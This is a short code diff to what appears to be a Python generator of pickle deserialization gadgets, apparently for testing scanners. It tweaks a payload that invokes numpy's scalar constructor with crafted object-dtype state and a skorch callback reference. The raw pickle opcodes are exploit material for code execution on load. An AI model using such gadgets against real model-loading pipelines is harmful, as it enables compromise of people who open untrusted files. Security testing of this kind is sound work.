@@ -267,6 +267,7 @@ def _inst(module: str, name: str) -> bytes:
 
 
 TIMER = _g("skorch.callbacks.logging", "EpochTimer")
+OBJECT_STATE = b"(I3\nV|\nNNNI-1\nI-1\nI63\nt"  # numpy's own state for the object dtype
 PRINT = _g("builtins", "print")
 
 
@@ -363,7 +364,7 @@ def gadgets(marker: Path) -> list[Payload]:
             "REDUCE on numpy._core.multiarray.scalar",
             _call(
                 _g("numpy.core.multiarray", "scalar"),
-                _call(_g("numpy", "dtype"), "O", b"I00\n", b"I01\n"),
+                _call(_g("numpy", "dtype"), "O8", b"I00\n", b"I01\n") + OBJECT_STATE + b"b",
                 TIMER,
             )
             + b".",
